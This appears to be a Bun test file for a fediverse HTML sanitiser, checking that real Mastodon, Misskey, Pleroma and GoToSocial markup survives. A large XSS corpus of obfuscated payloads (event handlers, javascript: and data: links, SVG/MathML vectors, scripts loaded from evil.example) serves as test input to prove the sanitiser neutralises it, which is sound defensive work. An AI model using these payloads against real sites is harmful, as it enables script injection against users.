/**
 * The remote-HTML sanitiser: an XSS corpus (every output is re-parsed by
 * Bun's HTMLRewriter, a browser-grade tokenizer, and must hold only
 * allow-listed elements, attributes and link schemes), Mastodon's
 * transformations, and real Mastodon/Misskey/Pleroma/GoToSocial markup
 * surviving intact.
 */
import { describe, expect, test } from "bun:test";
import { LINK_PROTOCOLS, cleanPlainText, htmlToPlainText, sanitizeHtml } from "../federation/sanitize.ts";

const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
  p: ["class", "lang"],
  br: ["lang"],
  span: ["class", "translate", "lang"],
  a: ["href", "rel", "class", "translate", "target", "lang"],
  del: ["lang"],
  s: ["lang"],
  pre: ["lang"],
  blockquote: ["lang"],
  code: ["lang"],
  b: ["lang"],
  strong: ["lang"],
  u: ["lang"],
  i: ["lang"],
  em: ["lang"],
  ul: ["lang"],
  ol: ["start", "reversed", "lang"],
  li: ["value", "lang"],
  ruby: ["lang"],
  rt: ["lang"],
  rp: ["lang"],
};

const NAMED: Record<string, string> = { amp: "&", quot: '"', lt: "<", gt: ">", apos: "'", colon: ":", tab: "\t", newline: "\n" };

function decodeEntities(value: string): string {
  return value.replace(/&(#x[0-9a-f]+|#\d+|[a-z]+);?/gi, (whole, entity: string) => {
    if (entity[0] === "#") {
      const code = entity[1] === "x" || entity[1] === "X" ? parseInt(entity.slice(2), 16) : parseInt(entity.slice(1), 10);
      return Number.isFinite(code) ? String.fromCodePoint(code) : whole;
    }
    return NAMED[entity.toLowerCase()] ?? whole;
  });
}

interface Element {
  tag: string;
  attributes: [string, string][];
}

async function elementsOf(html: string): Promise<Element[]> {
  const found: Element[] = [];
  await new HTMLRewriter()
    .on("*", { element: (el) => void found.push({ tag: el.tagName, attributes: [...el.attributes] as [string, string][] }) })
    .transform(new Response(html))
    .text();
  return found;
}

/** Fails the test with the offending detail unless `html` holds nothing a browser could execute. */
async function expectInert(input: string, html: string): Promise<void> {
  const context = `input ${JSON.stringify(input)} → ${JSON.stringify(html)}`;
  for (const { tag, attributes } of await elementsOf(html)) {
    const allowed = ALLOWED_ATTRIBUTES[tag];
    if (!allowed) throw new Error(`element <${tag}> survived: ${context}`);
    for (const [name, value] of attributes) {
      if (!allowed.includes(name)) throw new Error(`attribute ${name} on <${tag}> survived: ${context}`);
      if (name === "href") {
        const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(decodeEntities(value));
        if (!scheme || !(LINK_PROTOCOLS as readonly string[]).includes(scheme[1]!.toLowerCase())) {
          throw new Error(`href ${JSON.stringify(value)} survived: ${context}`);
        }
        if (/[\u0000-\u0020]/.test(decodeEntities(value).slice(0, scheme[0].length))) throw new Error(`obfuscated scheme: ${context}`);
      }
      if (name === "rel") expect(value).toBe("nofollow noopener");
      if (name === "target") expect(value).toBe("_blank");
    }
  }
  // No raw "<" outside the tags checked above: every text "<" is escaped.
  expect(html.replace(/<\/?[a-z0-9]+(?:\s[^<>]*)?\/?>/gi, "")).not.toContain("<");
  // Idempotent: what we store sanitises to itself.
  expect(sanitizeHtml(html)).toBe(html);
}

const XSS_CORPUS: string[] = [
  // Script and event handlers.
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>`,
  `<script type="module">import('https://evil.example/x.js')</script>after`,
  `<img src=x onerror=alert(1)>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<img src=1 href=1 onerror="javascript:alert(1)"></img>`,
  "<img src=`x` onerror=alert(1)>",
  `<div onmouseover="alert(1)">hover</div>`,
  `<p onclick=alert(1)>click</p>`,
  `<a href="https://ok.example/" onclick="alert(1)" onmouseover="alert(2)">x</a>`,
  `<span class="mention" data-x="1" id="x" onmouseover="alert(1)" style="color:red">m</span>`,
  `<body onload=alert(1)>body</body>`,
  `<details open ontoggle=alert(1)>d</details>`,
  `<marquee onstart=alert(1)>m</marquee>`,
  `<x onclick=alert(1)>unknown element</x>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)>`,
  // javascript:, data:, vbscript: and obfuscations of them.
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href="java&#x09;script:alert(1)">x</a>`,
  `<a href="java&#9;script:alert(1)">x</a>`,
  `<a href="jav&#x0A;ascript:alert(1)">x</a>`,
  `<a href="jav\tascript:alert(1)">x</a>`,
  `<a href="\u0001javascript:alert(1)">x</a>`,
  `<a href="  &#14;  javascript:alert(1)">x</a>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
  `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>`,
  `<a href="javascript&colon;alert(1)">x</a>`,
  `<a href='javascript:alert(1)' title='x'>x</a>`,
  `<a href=javascript:alert(1)>x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="VBScript:msgbox(1)">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="blob:https://evil.example/1">x</a>`,
  `<a href="//evil.example/x">protocol-relative</a>`,
  `<a href="/relative">relative</a>`,
  `<a href="https://example.com/&quot;onmouseover=&quot;alert(1)">quotes</a>`,
  `<a href="https://ok.example/" target="_top" rel="opener">rel</a>`,
  // Styles.
  `<p style="background:url(javascript:alert(1))">styled</p>`,
  `<span style="x:expression(alert(1))">ie</span>`,
  `<style>@import 'javascript:alert(1)';</style>text`,
  `<link rel=stylesheet href="javascript:alert(1)">`,
  // Frames, objects, embeds.
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe src="https://evil.example/">fallback <img src=x onerror=alert(1)>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<frameset><frame src="javascript:alert(1)"></frameset>`,
  `<applet code="x.class">applet</applet>`,
  // SVG and MathML.
  `<svg onload=alert(1)>`,
  `<svg/onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
  `<math><semantics><annotation encoding="application/x-tex"><img src=x onerror=alert(1)></annotation></semantics></math>`,
  // Forms, meta refresh, base.
  `<form action="javascript:alert(1)"><input type=submit></form>`,
  `<input onfocus=alert(1) autofocus>`,
  `<isindex action=javascript:alert(1) type=image>`,
  `<button formaction="javascript:alert(1)">b</button>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="javascript:alert(1)//">`,
  // Comments, CDATA and malformed markup.
  `<!--<script>alert(1)</script>-->visible`,
  `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<scr<script>ipt>alert(1)</script>`,
  `<<script>script>alert(1)<</script>/script>`,
  `"><script>alert(1)</script>`,
  `<p>unclosed <b>bold <a href="https://x.example/">link`,
  `<a href="https://x.example/"><a href="javascript:alert(1)">nested</a></a>`,
  `</p><p><b><i>mis</b>nested</i>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<textarea><script>alert(1)</script></textarea>`,
  `<xmp><script>alert(1)</script></xmp>`,
  `<plaintext><script>alert(1)</script>`,
  `<template><script>alert(1)</script></template>`,
  `<title><script>alert(1)</script></title>`,
  `<x-fedisky-heading onclick="alert(1)">marker smuggling</x-fedisky-heading>`,
  `<a href="https://ok.example/">ok</a><x-fedisky-tex-inline><img src=x onerror=alert(1)></x-fedisky-tex-inline>`,
];

describe("XSS corpus", () => {
  test("the inertness check itself rejects executable markup", async () => {
    for (const bad of [
      `<img src=x>`,
      `<a href="javascript:alert(1)">x</a>`,
      `<a href="java&#x09;script:alert(1)">x</a>`,
      `<a href="&#106;avascript:alert(1)">x</a>`,
      `<p onclick="alert(1)">x</p>`,
      `<span style="color:red">x</span>`,
      `<svg></svg>`,
    ]) {
      await expect(expectInert(bad, bad)).rejects.toThrow();
    }
  });

  test.each(XSS_CORPUS)("%s", async (input) => {
    await expectInert(input, sanitizeHtml(input));
  });

  test("script, style and frame contents are dropped with their element", () => {
    expect(sanitizeHtml(`<script>alert(1)</script>`)).toBe("");
    expect(sanitizeHtml(`<style>body{}</style>text`)).toBe("text");
    expect(sanitizeHtml(`<iframe src="https://evil.example/">fallback</iframe>`)).toBe("");
    expect(sanitizeHtml(`<svg><text>inside svg</text></svg>after`)).toBe("after");
  });

  test("links to other schemes are replaced by their text", () => {
    expect(sanitizeHtml(`<a href="javascript:alert(1)">click <b>me</b></a>`)).toBe("click <b>me</b>");
    expect(sanitizeHtml(`<a href="java&#x09;script:alert(1)">tab</a>`)).toBe("tab");
    expect(sanitizeHtml(`<a href="/relative">relative</a>`)).toBe("relative");
    expect(sanitizeHtml(`<a href="data:text/html,x">data</a>`)).toBe("data");
  });

  test("unknown elements are unwrapped, their text kept and escaped", () => {
    expect(sanitizeHtml(`<div><x-custom>hello</x-custom> &lt;script&gt;</div>`)).toBe("hello &lt;script&gt;");
    expect(sanitizeHtml(`<img src=x onerror=alert(1)>`)).toBe("");
    expect(sanitizeHtml(`<form action="/x"><input value="v">label</form>`)).toBe("label");
  });

  test("attributes outside the allow-list go, even on allowed elements", () => {
    expect(sanitizeHtml(`<p style="color:red" onclick="x" id="a" data-x="1" class="h-entry evil">t</p>`)).toBe(
      `<p class="h-entry">t</p>`,
    );
  });
});

describe("Mastodon's rules", () => {
  test("links get rel=nofollow noopener and target=_blank, replacing what they had", () => {
    expect(sanitizeHtml(`<a href="https://x.example/" rel="me noreferrer" target="_self">x</a>`)).toBe(
      `<a href="https://x.example/" rel="nofollow noopener" target="_blank">x</a>`,
    );
  });

  test("the other link protocols Mastodon allows are kept", () => {
    for (const href of ["gemini://g.example/", "xmpp:a@b.example", "magnet:?xt=urn:btih:abc", "ipfs://cid", "dat://x", "gopher://g.example/"]) {
      expect(sanitizeHtml(`<a href="${href}">x</a>`)).toBe(`<a href="${href}" rel="nofollow noopener" target="_blank">x</a>`);
    }
  });

  test("headings become bold paragraphs", () => {
    expect(sanitizeHtml(`<h1>Title</h1><h3 class="x">Sub</h3><p>Body</p>`)).toBe(
      `<p><strong>Title</strong></p><p><strong>Sub</strong></p><p>Body</p>`,
    );
  });

  test("only microformat and Mastodon's own classes are kept", () => {
    expect(sanitizeHtml(`<span class="h-card p-name u-photo dt-published e-content mention hashtag ellipsis invisible quote-inline evil btn">x</span>`)).toBe(
      `<span class="h-card p-name u-photo dt-published e-content mention hashtag ellipsis invisible quote-inline">x</span>`,
    );
  });

  test("translate is kept only as no", () => {
    expect(sanitizeHtml(`<span translate="no">a</span><span translate="yes">b</span>`)).toBe(`<span translate="no">a</span><span>b</span>`);
  });

  test("lists keep start, reversed and value; lang is kept everywhere", () => {
    expect(sanitizeHtml(`<ol start="3" reversed type="a"><li value="5" class="x">x</li></ol><p lang="fr">b</p>`)).toBe(
      `<ol start="3" reversed><li value="5">x</li></ol><p lang="fr">b</p>`,
    );
  });

  test("MathML becomes its TeX annotation (FEP-dc88), else its plain-text one", () => {
    const tex = `<math display="block"><semantics><mrow><msup><mi>x</mi><mn>2</mn></msup></mrow><annotation encoding="application/x-tex">x^2</annotation></semantics></math>`;
    expect(sanitizeHtml(`<p>${tex}</p>`)).toBe(`<p>$$x^2$$</p>`);
    expect(sanitizeHtml(`<math><semantics><mi>y</mi><annotation encoding="application/x-tex">y</annotation></semantics></math>`)).toBe("$y$");
    expect(sanitizeHtml(`<math><semantics><mi>z</mi><annotation encoding="text/plain">z</annotation></semantics></math>`)).toBe("z");
    expect(sanitizeHtml(`a <math><mi>q</mi></math> b`)).toBe("a  b");
  });

  test("pre, code, blockquote, ruby and inline styles survive", () => {
    const html = `<blockquote><p>quote</p></blockquote><pre><code>a &lt; b &amp;&amp; c</code></pre><p><del>old</del> <s>struck</s> <u>u</u> <i>i</i> <em>em</em> <b>b</b></p><ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>`;
    expect(sanitizeHtml(html)).toBe(html);
  });
});

describe("ordinary content survives", () => {
  test("a Mastodon post: mention, hashtag, shortened link, paragraphs", () => {
    const input =
      `<p><span class="h-card" translate="no"><a href="https://mastodon.social/@Gargron" class="u-url mention">@<span>Gargron</span></a></span> ` +
      `read <a href="https://mastodon.social/tags/fediverse" class="mention hashtag" rel="tag">#<span>fediverse</span></a> ` +
      `<a href="https://joinmastodon.org/about" target="_blank" rel="nofollow noopener noreferrer" translate="no"><span class="invisible">https://</span><span class="">joinmastodon.org/about</span><span class="invisible"></span></a></p>` +
      `<p>second<br />line</p>`;
    expect(sanitizeHtml(input)).toBe(
      `<p><span class="h-card" translate="no"><a href="https://mastodon.social/@Gargron" class="u-url mention" rel="nofollow noopener" target="_blank">@<span>Gargron</span></a></span> ` +
        `read <a href="https://mastodon.social/tags/fediverse" class="mention hashtag" rel="nofollow noopener" target="_blank">#<span>fediverse</span></a> ` +
        `<a href="https://joinmastodon.org/about" target="_blank" rel="nofollow noopener" translate="no"><span class="invisible">https://</span><span>joinmastodon.org/about</span><span class="invisible"></span></a></p>` +
        `<p>second<br />line</p>`,
    );
  });

  test("a Misskey note: spans, line breaks, a mention without h-card", () => {
    expect(sanitizeHtml(`<p><span>Hello <a href="https://misskey.io/@ai" class="u-url mention">@ai</a><br>nyan :blobcat:</span></p>`)).toBe(
      `<p><span>Hello <a href="https://misskey.io/@ai" class="u-url mention" rel="nofollow noopener" target="_blank">@ai</a><br />nyan :blobcat:</span></p>`,
    );
  });

  test("a Pleroma post: data attributes and ugc rel dropped, mention and hashtag kept", () => {
    expect(
      sanitizeHtml(
        `<span class="h-card"><a class="u-url mention" data-user="9vwjTNzEWEM1TfkBGq" href="https://pleroma.example/users/lain" rel="ugc">@<span>lain</span></a></span> hi <a class="hashtag" data-tag="test" href="https://pleroma.example/tag/test" rel="tag ugc">#test</a>`,
      ),
    ).toBe(
      `<span class="h-card"><a class="u-url mention" href="https://pleroma.example/users/lain" rel="nofollow noopener" target="_blank">@<span>lain</span></a></span> hi <a class="hashtag" href="https://pleroma.example/tag/test" rel="nofollow noopener" target="_blank">#test</a>`,
    );
  });

  test("a GoToSocial post with a list", () => {
    const html = `<p>todo:</p><ul><li>one</li><li><a href="https://gts.example/tags/two" class="mention hashtag" rel="nofollow noopener" target="_blank">#<span>two</span></a></li></ul>`;
    expect(sanitizeHtml(html)).toBe(html);
  });

  test("entities and non-Latin text are preserved", () => {
    expect(sanitizeHtml(`<p>Tom &amp; Jerry &lt;3 — здесь 漢字 😀</p>`)).toBe(`<p>Tom &amp; Jerry &lt;3 — здесь 漢字 😀</p>`);
  });

  test("empty and missing input", () => {
    expect(sanitizeHtml("")).toBe("");
    expect(sanitizeHtml(null)).toBe("");
    expect(sanitizeHtml(undefined)).toBe("");
  });
});

describe("plain text", () => {
  test("htmlToPlainText keeps paragraphs and breaks, drops tags and scripts, decodes entities", () => {
    expect(htmlToPlainText(`<p>Tom &amp; Jerry</p><p>a<br>b</p><script>alert(1)</script>`)).toBe("Tom & Jerry\n\na\nb");
  });

  test("cleanPlainText strips control characters and bounds the length", () => {
    expect(cleanPlainText("  a\u0000b\u0007c\nd\te  ", 100)).toBe("abc\nd\te");
    expect(cleanPlainText("😀".repeat(10), 3)).toBe("😀😀😀");
  });
});
